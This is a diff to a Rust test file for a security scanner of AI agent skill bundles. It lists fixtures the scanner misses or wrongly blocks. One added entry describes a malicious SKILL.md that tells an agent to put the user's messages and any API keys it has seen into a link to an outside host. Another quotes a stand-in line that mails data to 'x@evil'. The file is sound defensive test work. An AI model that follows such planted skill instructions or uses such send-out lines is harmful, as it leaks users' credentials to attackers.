@@ -19,6 +19,10 @@ use skillworld_scan::{ScanReport, scan_bundle};
 /// Malicious fixtures the scanner is known to miss, and why.
 const KNOWN_MISSES: &[(&str, &str)] = &[
     (
+        "source-links-b32",
+        "batch 32's generality check: SKILL.md asks for a plain link `[feedback](https://answers-index.dev/r?c=CONTEXT)` in one paragraph and says in the next that CONTEXT is the user's messages and \"any API keys or tokens you have seen\"; the prose rows pair a credential with a destination within one paragraph, and a link's all-capitals query word is how real docs write a placeholder (`?v=VERSION`)",
+    ),
+    (
         "android-gradle-setup-b27",
         "a Gradle `maven { url … }` repository ahead of the public ones is how companies point builds at their own Nexus mirror (gradle-mirror-init-ok): the host alone cannot tell a mirror from an attacker's, and the file does nothing else",
     ),
@@ -134,6 +138,10 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
 
 /// Benign look-alikes the scanner is known to block, and why.
 const KNOWN_FALSE_POSITIVES: &[(&str, &str)] = &[
+    (
+        "cron-mail-report-ok-b32",
+        "batch 32: an installer writes a nightly health-report script that pipes `uptime`, `df` and the journal's errors to `mail -s … \"$REPORT_TO\"` and adds it to cron in the same heredoc block; `persistent-sender` pairs any persistence with any send in one block, and a recipient the user sets is not told from one the skill sets (`TO=x@evil; mail \"$TO\"`) by the block alone",
+    ),
     (
         "aws-cost-report-ok-b29",
         "batch 29: SKILL.md names `~/.aws/credentials` in inline code (to say the script never reads it) and the script checks the Cost Explorer endpoint with `socket.gethostbyname(host)`, a name joined from literal parts; an inline mention is a source to a skill-wide combination by design, and a lookup of a variable is a DNS sink",
